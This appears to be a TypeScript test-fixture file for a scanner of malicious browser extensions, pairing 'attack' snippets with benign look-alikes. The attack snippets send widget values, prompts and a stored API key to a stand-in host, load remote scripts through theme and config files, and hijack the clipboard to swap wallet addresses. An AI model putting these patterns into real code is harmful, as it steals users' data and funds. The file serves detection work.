import type { ScriptPack } from './script-attack-packs.js';

const EVIL = 'https://collect.example.net/c';
const HOST = 'collect.example.net';
const L = 'script_loads_foreign_code',
  W = 'script_swaps_wallets',
  X = 'script_leaks_by_address',
  S = 'script_sends_store';
const WALLET = '0x52908400098527886E0F7030069857D2E4169EE7';
const COIN = 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq';

/** Texts of the host that leave as the address of a picture, and the like. */
const LEAKS: readonly ScriptPack[] = [
  {
    rule: X,
    what: 'widgets in the name of a picture',
    attack: `const dot = new Image();\nfor (const n of app.graph._nodes) for (const w of n.widgets ?? []) dot.src = "${EVIL}/" + encodeURIComponent(w.value) + ".gif"`,
    honest: `const dot = new Image();\nfor (const n of app.graph._nodes) for (const w of n.widgets ?? []) dot.src = api.apiURL("/view?filename=" + encodeURIComponent(w.value))`,
  },
  {
    rule: X,
    what: 'widgets of a node in a style',
    attack: `function tint(node) { const text = node.widgets.map((w) => String(w.value)).join("|"); badge.style.backgroundImage = \`url(${EVIL}/\${btoa(text)}.svg)\`; }`,
    honest: `function tint(node) { const text = node.widgets.map((w) => String(w.value)).join("|"); badge.textContent = text; badge.style.backgroundImage = "url(${EVIL}/dot.svg)"; }`,
  },
  {
    rule: X,
    what: 'widgets by a beacon of a class',
    attack: `class Meter {\n  constructor(base) { this.base = base; }\n  mark(text) { navigator.sendBeacon(this.base + "/m", text); }\n}\nconst meter = new Meter("${EVIL}");\napp.registerExtension({ name: "a", nodeCreated(node) { for (const w of node.widgets) meter.mark(w.value); } });`,
  },
  {
    rule: X,
    what: 'widgets by another module',
    attack: {
      'web/main.js': `import { app } from "../../scripts/app.js";\nimport { Meter } from "./meter.js";\nconst meter = new Meter();\napp.registerExtension({ name: "a", loadedGraphNode(node) { meter.count(node.widgets_values.join(" ")); } });`,
      'web/meter.js': `import { place } from "./places.js";\nexport class Meter { count(text) { const i = new Image(); i.src = place("s") + encodeURIComponent(text) + ".png"; } }`,
      'web/places.js': `export const HOST = "${HOST}";\nexport const place = (name) => \`https://\${HOST}/\${name}/\`;`,
    },
  },
  {
    rule: X,
    what: 'widgets to a place of a settings file',
    attack: {
      'web/main.js': `const cfg = await (await fetch(new URL("./meter.json", import.meta.url))).json();\nfunction seen(node) { const i = document.createElement("img"); i.src = cfg.dot + node.widgets.map((w) => w.value); }`,
      'web/meter.json': `{"dot": "${EVIL}/"}`,
    },
    honest: {
      'web/main.js': `const cfg = await (await fetch(new URL("./meter.json", import.meta.url))).json();\nfunction seen(node) { const i = document.createElement("img"); i.src = cfg.dot; show(node.widgets.map((w) => w.value)); }`,
      'web/meter.json': `{"dot": "${EVIL}/"}`,
    },
  },
  {
    rule: X,
    what: 'a text that is sent without a reply',
    attack: `app.graphToPrompt().then((p) => fetch("${EVIL}/" + btoa(JSON.stringify(p)), { mode: "no-cors" }))`,
  },
  {
    rule: X,
    what: 'a link that is fetched early',
    attack: `const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//" + app.graph.nodes[0].widgets[0].value + ".${HOST}"; document.head.append(l)`,
  },
  {
    rule: S,
    what: 'a key in the name of a picture by a helper',
    attack: {
      'web/main.js': `import { dot } from "./dot.js";\ndot(localStorage.getItem("openai_key"));`,
      'web/dot.js': `const BASE = "${EVIL}";\nexport function dot(text) { const i = new Image(); i.src = \`\${BASE}/\${text}.png\`; }`,
    },
    honest: {
      'web/main.js': `import { dot } from "./dot.js";\nlocalStorage.getItem("openai_key"); dot("a");`,
      'web/dot.js': `const BASE = "${EVIL}";\nexport function dot(text) { const i = new Image(); i.src = \`\${BASE}/\${text}.png\`; }`,
    },
  },
];

/** Code of another computer by way of settings, themes and classes. */
const LOADS: readonly ScriptPack[] = [
  {
    rule: L,
    what: 'a script of a theme',
    attack: {
      'web/main.js': `fetch("/extensions/pack/theme.json").then((r) => r.json()).then((theme) => { const s = document.createElement("script"); s.src = theme.engine; document.head.append(s); })`,
      'web/theme.json': `{"name": "Dark", "engine": "${EVIL}/engine.js"}`,
    },
    honest: {
      'web/main.js': `fetch("/extensions/pack/theme.json").then((r) => r.json()).then((theme) => { const s = document.createElement("script"); s.src = theme.engine; document.head.append(s); })`,
      'web/theme.json': `{"name": "Dark", "page": "${EVIL}/about", "engine": "./engine.js"}`,
    },
  },
  {
    rule: L,
    what: 'a module of a configuration',
    attack: {
      'web/main.js': `import { THEME } from "./config.js";\nawait import(THEME.module);`,
      'web/config.js': `export const THEME = { name: "a", module: "${EVIL}/a.js" };`,
    },
    honest: {
      'web/main.js': `import { THEME } from "./config.js";\nawait import(THEME.module);`,
      'web/config.js': `export const THEME = { name: "a", home: "${EVIL}", module: "./a.js" };`,
    },
  },
  {
    rule: L,
    what: 'a module of an imported file of data',
    attack: {
      'web/main.js': `import theme from "./theme.json" with { type: "json" };\nconst { parts } = theme;\nfor (const part of parts) import(part.from);`,
      'web/theme.json': `{"parts": [{"from": "${EVIL}/a.mjs"}]}`,
    },
  },
  {
    rule: L,
    what: 'a class that loads',
    attack: `class Forge {\n  constructor({ base }) { this.base = base; }\n  async load(name) { return import(\`\${this.base}/\${name}.js\`); }\n}\nnew Forge({ base: "${EVIL}" }).load("dark");`,
    honest: `class Forge {\n  constructor({ base }) { this.base = base; }\n  async load(name) { return import(\`\${this.base}/\${name}.js\`); }\n}\nconst about = "${EVIL}";\nnew Forge({ base: "./themes" }).load("dark");`,
  },
  {
    rule: L,
    what: 'a class of another module that loads',
    attack: {
      'web/main.js': `import Forge from "./forge.js";\nnew Forge({ base: "${EVIL}" }).load("dark");`,
      'web/forge.js': `export default class Forge {\n  constructor(options) { this.options = options; }\n  load(name) { const s = document.createElement("script"); s.type = "module"; s.src = this.options.base + "/" + name + ".js"; document.head.appendChild(s); }\n}`,
    },
  },
  {
    rule: L,
    what: 'host and path of a theme',
    attack: {
      'web/main.js': `async function load() { const reply = await fetch("./theme.json"); const t = await reply.json(); const url = "https://" + t.cdn.host + t.cdn.path; const s = document.createElement("script"); s.src = url; document.body.append(s); }\nload();`,
      'web/theme.json': `{"cdn": {"host": "${HOST}", "path": "/a.js"}}`,
    },
  },
  {
    rule: L,
    what: 'one of several hosts, by a name that is chosen',
    attack: {
      'web/main.js': `import { load } from "./load.js";\nconst all = await (await fetch(new URL("./skins.json", import.meta.url))).json();\napp.registerExtension({ name: "a", settings: [{ id: "a", onChange: (name) => load(all.hosts[all[name].host], name) }] });`,
      'web/load.js': `export async function load(base, name) { const place = new URL(base + name + ".js", import.meta.url); return import(place.href); }`,
      'web/skins.json': `{"dark": {"host": "b"}, "hosts": {"b": "//${HOST}/skins/", "a": "./skins/"}}`,
    },
    honest: {
      'web/main.js': `import { load } from "./load.js";\nconst all = await (await fetch(new URL("./skins.json", import.meta.url))).json();\napp.registerExtension({ name: "a", settings: [{ id: "a", onChange: (name) => load(all.hosts[all[name].host], name) }] });`,
      'web/load.js': `export async function load(base, name) { const place = new URL(base + name + ".js", import.meta.url); return import(place.href); }`,
      'web/skins.json': `{"about": "https://${HOST}/skins/", "dark": {"host": "b"}, "hosts": {"b": "./b/", "a": "./skins/"}}`,
    },
  },
  {
    rule: L,
    what: 'a table of a module',
    attack: {
      'web/main.js': `import { PARTS } from "./parts.js";\nfor (const key of Object.keys(PARTS)) { const s = document.createElement("script"); s.src = PARTS[key]; document.head.append(s); }`,
      'web/parts.js': `export const PARTS = { far: "${EVIL}/a.js", near: "./near.js" };`,
    },
  },
];

/** Wallets in the place of what people copy. */
const SWAPS: readonly ScriptPack[] = [
  {
    rule: W,
    what: 'a wallet of another module',
    attack: {
      'web/main.js': `import { pick } from "./list.js";\ndocument.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", pick(String(getSelection()))); });`,
      'web/list.js': `const LIST = { eth: "${WALLET}", btc: "${COIN}" };\nexport const pick = (text) => text.replace(/\\b0x\\w+/g, LIST.eth);`,
    },
    honest: {
      'web/main.js': `import { pick } from "./list.js";\ndocument.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", pick(String(getSelection()))); });`,
      'web/list.js': `const COLORS = { red: "#ff0000" };\nexport const pick = (text) => text.replace(/\\bred\\b/g, COLORS.red);`,
    },
  },
  {
    rule: W,
    what: 'a wallet in pieces',
    attack: `const own = ["0x5290", "8400098527886E0F", "7030069857D2E4169EE7"].join("");\ndocument.addEventListener("copy", (e) => { const t = String(getSelection()).replace(/0x[a-f0-9]+/i, own); e.clipboardData.setData("text/plain", t); e.preventDefault(); })`,
  },
  {
    rule: W,
    what: 'a wallet of a list of pairs',
    attack: `const RULES = [[/^0x/, "${WALLET}"], [/^bc1/, "${COIN}"]];\nconst swap = (text) => { for (const [p, own] of RULES) if (p.test(text)) return own; return text; };\nconst old = navigator.clipboard.writeText.bind(navigator.clipboard);\nnavigator.clipboard.writeText = (text) => old(swap(text));`,
  },
  {
    rule: W,
    what: 'a wallet of a file of data',
    attack: {
      'web/main.js': `let table = [];\nfetch("./copy.json").then((r) => r.json()).then((d) => { table = d.targets; });\ndocument.addEventListener("copy", (e) => { let t = String(getSelection()); for (const { find, put } of table) t = t.replace(new RegExp(find), put); e.clipboardData.setData("text/plain", t); })`,
      'web/copy.json': `{"targets": [{"find": "0x[0-9a-f]{40}", "put": "${WALLET}"}]}`,
    },
  },
  {
    rule: W,
    what: 'a pattern of wallets, with what takes their place unknown',
    attack: `document.addEventListener("copy", (e) => { const t = String(getSelection()).replace(/\\b0x[a-fA-F0-9]{40}\\b/, () => pool[next()]); e.clipboardData.setData("text/plain", t); })`,
    honest: `document.addEventListener("copy", (e) => { const t = String(getSelection()).replace(/#[a-fA-F0-9]{6}\\b/, () => pool[next()]); e.clipboardData.setData("text/plain", t); })`,
  },
  {
    rule: W,
    what: 'what is pasted into a field',
    attack: `document.addEventListener("paste", (e) => { const text = e.clipboardData.getData("text"); if (/^(0x|bc1)/.test(text)) { e.preventDefault(); e.target.value = own.a + own.b; } });\nconst own = { a: "0x52908400098527886E0F", b: "7030069857D2E4169EE7" };`,
  },
  {
    rule: W,
    what: 'a class with a map of chains',
    attack: `class Copier {\n  #own = new Map([["eth", "${WALLET}"]]);\n  clean(text) { return /^0x/.test(text) ? this.#own.get("eth") : text; }\n  start() { document.addEventListener("copy", (e) => e.clipboardData.setData("text/plain", this.clean(String(getSelection())))); }\n}\nnew Copier().start();`,
  },
];

export const SCRIPT_DATA_PACKS: readonly ScriptPack[] = [...LEAKS, ...LOADS, ...SWAPS];
